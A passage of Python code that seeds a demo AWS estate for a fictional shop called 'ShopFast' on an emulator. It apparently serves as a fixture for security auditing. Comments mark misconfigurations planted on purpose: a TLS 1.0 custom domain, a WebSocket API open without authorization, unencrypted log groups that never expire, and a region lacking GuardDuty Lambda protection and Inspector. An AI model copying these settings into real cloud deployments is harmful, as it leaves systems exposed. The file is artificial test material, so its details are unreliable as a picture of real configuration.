            ApiId=mobile,
            IntegrationType="AWS_PROXY",
            IntegrationUri=fns["user-profile"],
            PayloadFormatVersion="2.0",
        )["IntegrationId"]
        v2.create_route(
            ApiId=mobile,
            RouteKey="GET /me",
            Target=f"integrations/{integration}",
            AuthorizationType="JWT",
            AuthorizerId=mobile_jwt,
        )
        self.websocket_apis(v2, uri)
        # Custom domains: a legacy one still accepting TLS 1.0, a current one on TLS 1.2.
        cert = f"arn:aws:acm:{PRIMARY}:{ACCOUNT}:certificate/0b1c2d3e-demo"
        ag.create_domain_name(
            domainName="legacy.shopfast.example",
            regionalCertificateArn=cert,
            endpointConfiguration={"types": ["REGIONAL"]},
            securityPolicy="TLS_1_0",
        )
        v2.create_domain_name(
            DomainName="api.shopfast.example",
            DomainNameConfigurations=[
                {"CertificateArn": cert, "EndpointType": "REGIONAL", "SecurityPolicy": "TLS_1_2"}
            ],
        )

    def websocket_apis(self, v2: Any, uri: Callable[[str], str]) -> None:
        """shopfast-live: anyone may connect (no authorizer on $connect); shopfast-support:
        $connect goes through the auth-authorizer Lambda authorizer."""
        for name, protected in (("shopfast-live", False), ("shopfast-support", True)):
            ws = v2.create_api(
                Name=name, ProtocolType="WEBSOCKET", RouteSelectionExpression="$request.body.action"
            )["ApiId"]
            integration = v2.create_integration(
                ApiId=ws, IntegrationType="AWS_PROXY", IntegrationUri=uri("notifications")
            )["IntegrationId"]
            auth: dict[str, Any] = {"AuthorizationType": "NONE"}
            if protected:
                authorizer = v2.create_authorizer(
                    ApiId=ws,
                    AuthorizerType="REQUEST",
                    Name="connect",
                    AuthorizerUri=uri("auth-authorizer"),
                    IdentitySource=["route.request.querystring.token"],
                )["AuthorizerId"]
                auth = {"AuthorizationType": "CUSTOM", "AuthorizerId": authorizer}
            for key in ("$connect", "$default"):
                extra = auth if key == "$connect" else {}
                v2.create_route(
                    ApiId=ws, RouteKey=key, Target=f"integrations/{integration}", **extra
                )

    def observability(self) -> None:
        hardened = (
            "auth-authorizer",
            "audit-logger",
            "notifications",
            "orders-api",
            "user-profile",
            "inventory-sync",
        )
        for name in hardened:
            self.log_group(f"/aws/lambda/{name}", retention=90, kms=self.logs_cmk)
            self.alarm(name, "Errors")
        self.alarm("orders-api", "Throttles")
        # Created by hand and forgotten: never expire, not encrypted.
        for name in ("payments-webhook", "admin-tools", "legacy-export"):
            self.log_group(f"/aws/lambda/{name}")
        logs = self.c("logs")
        logs.create_log_stream(
            logGroupName="/aws/lambda/orders-api", logStreamName="2026/11/27/[3]abcdef"
        )
        now = int(time.time() * 1000)
        logs.put_log_events(
            logGroupName="/aws/lambda/orders-api",
            logStreamName="2026/11/27/[3]abcdef",
            logEvents=[
                {"timestamp": now - 300, "message": "START RequestId: 1f0e Version: 3"},
                {"timestamp": now - 200, "message": "[ERROR] KeyError: 'customer_id'"},
                {"timestamp": now - 100, "message": "END RequestId: 1f0e"},
                {
                    "timestamp": now,
                    "message": "REPORT RequestId: 1f0e Duration: 12.3 ms Billed Duration: 13 ms",
                },
            ],
        )
        # An organization-style trail: multi-region, management events, and Lambda data
        # events for the payment functions only.
        self.c("s3").create_bucket(Bucket="shopfast-cloudtrail-logs")
        trail = self.c("cloudtrail")
        trail.create_trail(
            Name="shopfast-trail", S3BucketName="shopfast-cloudtrail-logs", IsMultiRegionTrail=True
        )
        trail.start_logging(Name="shopfast-trail")
        fns = self.result.functions
        trail.put_event_selectors(
            TrailName="shopfast-trail",
            EventSelectors=[
                {
                    "ReadWriteType": "All",
                    "IncludeManagementEvents": True,
                    "DataResources": [
                        {
                            "Type": "AWS::Lambda::Function",
                            "Values": [
                                fns["payments-webhook"],
                                fns["orders-api"],
                                fns["auth-authorizer"],
                            ],
                        }
                    ],
                }
            ],
        )

    def account_services(self) -> None:
        gd = self.c("guardduty")
        gd.create_detector(
            Enable=True, Features=[{"Name": "LAMBDA_NETWORK_LOGS", "Status": "ENABLED"}]
        )
        self.c("inspector2").enable(resourceTypes=["LAMBDA"], accountIds=[ACCOUNT])
        # Rotation on, without a rotation function: the emulator would try to run it in Docker.
        self.c("secretsmanager").rotate_secret(
            SecretId=self.db_secret,
            RotationRules={"AutomaticallyAfterDays": 30},
        )

    def secondary_region(self) -> None:
        """A small EU footprint: no GuardDuty Lambda Protection, no Inspector."""
        lam = self.c("lambda", SECONDARY)
        self.function(
            "eu-newsletter",
            self.role_reader,
            region=SECONDARY,
            Environment={"Variables": {"SENDER": "news@shopfast.example"}},
            Tags={"app": "shopfast"},
        )
        lam.add_permission(
            FunctionName="eu-newsletter",
            StatementId="events",
            Action="lambda:InvokeFunction",
            Principal="events.amazonaws.com",
            SourceAccount=ACCOUNT,
        )
        self.c("guardduty", SECONDARY).create_detector(Enable=True)


def seed(endpoint: str) -> Seeded:
    """Create the ShopFast demo estate on ``endpoint`` (an emulator) and describe it."""
    return _Seeder(endpoint).seed()
